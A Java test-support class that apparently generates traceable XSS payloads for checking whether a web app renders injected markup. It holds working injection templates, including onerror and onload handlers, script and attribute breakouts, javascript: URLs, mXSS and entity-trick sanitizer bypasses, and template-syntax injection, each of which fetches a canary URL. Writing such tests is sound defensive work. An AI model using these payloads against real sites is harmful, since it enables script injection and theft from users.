package io.storezero.it.security;

import java.util.ArrayList;
import java.util.List;

/**
 * Hostile payloads for pages a browser renders, each one traceable: every element it injects carries the attribute
 * {@code data-szpwn}, links and sources point at the canary {@code <foreign>/szpwn/<index>}, and every script it
 * carries sets {@code document.documentElement.dataset.szpwned}, sets the title to {@code szpwned<index>} and fetches
 * the canary. A payload that ran or rendered anywhere is therefore seen, and named by its index.
 *
 * <p>The shapes are the classic breakouts: element and attribute context, script strings, javascript: URLs,
 * sanitizer bypasses (mXSS, entity and case tricks), template syntax, and Unicode-laden variants.
 */
final class HostilePayloads {

    /** One payload: its index (the id in every marker) and its text. */
    record Payload(int index, String template, String text) {
    }

    private static final List<String> TEMPLATES = List.of(
            "<img data-szpwn=\"{ID}\" src=\"{CANARY}\" onerror=\"{JS}\">",
            "\"><svg data-szpwn=\"{ID}\" onload=\"{JS}\">",
            "'><script data-szpwn=\"{ID}\">{JS}</script>",
            "</textarea></title></style></noscript><img data-szpwn=\"{ID}\" src=x onerror=\"{JS}\">",
            "<a href=\"{CANARY}\">x</a><img src=\"{CANARY}\">",
            "javascript:{JS}//",
            "<iframe data-szpwn=\"{ID}\" srcdoc=\"<script>parent.{JS}</script>\"></iframe>",
            "<details data-szpwn=\"{ID}\" open ontoggle=\"{JS}\">",
            "';{JS};//\";{JS};//</script><script data-szpwn=\"{ID}\">{JS}</script>",
            "<math><mtext><table><mglyph><style><img data-szpwn=\"{ID}\" src=x onerror=\"{JS}\">",
            "<noscript><p title=\"</noscript><img data-szpwn='{ID}' src=x onerror=&quot;{JS}&quot;>\">",
            "<a data-szpwn=\"{ID}\" href=\"jav&#x09;ascript:{JS}\">x</a>",
            "<IMG DATA-SZPWN=\"{ID}\" SRC=x ONERROR=\"{JS}\">",
            "<style data-szpwn=\"{ID}\">@import '{CANARY}';</style>",
            "<form data-szpwn=\"{ID}\" action=\"{CANARY}\"><button>x</button></form>",
            "<meta data-szpwn=\"{ID}\" http-equiv=\"refresh\" content=\"0;url={CANARY}\">",
            "\u202e\ufeff<b data-szpwn=\"{ID}\">\ud83d\ude00</b><img src=\"{CANARY}\">",
            "&lt;img data-szpwn=\"{ID}\" src=x onerror=\"{JS}\"&gt;",
            "%3Cimg%20data-szpwn%3D%22{ID}%22%20src%3Dx%20onerror%3D%22{JS}%22%3E",
            "${'<img data-szpwn=\"{ID}\" src=x onerror=\"{JS}\">'}{{'<b data-szpwn={ID}>'}}<#-- -->",
            "<input data-szpwn=\"{ID}\" autofocus onfocus=\"{JS}\">",
            "\"onmouseover=\"{JS}\" data-szpwn=\"{ID}\" x=\"",
            "<szpwn-x data-szpwn=\"{ID}\"></szpwn-x><object data=\"{CANARY}\"></object>");

    private HostilePayloads() {
    }

    /** {@code count} payloads cycling through the templates, markers filled in for index and canary. */
    static List<Payload> generate(int count, String canaryOrigin) {
        List<Payload> payloads = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            String template = TEMPLATES.get(i % TEMPLATES.size());
            String canary = canaryOrigin + "/szpwn/" + i;
            String js = "document.documentElement.dataset.szpwned='" + i + "';document.title='szpwned" + i + "';fetch('" + canary + "')";
            payloads.add(new Payload(i, "T" + (i % TEMPLATES.size()), template.replace("{JS}", js).replace("{CANARY}", canary)
                    .replace("{ID}", String.valueOf(i))));
        }
        return payloads;
    }

    static int templates() {
        return TEMPLATES.size();
    }
}
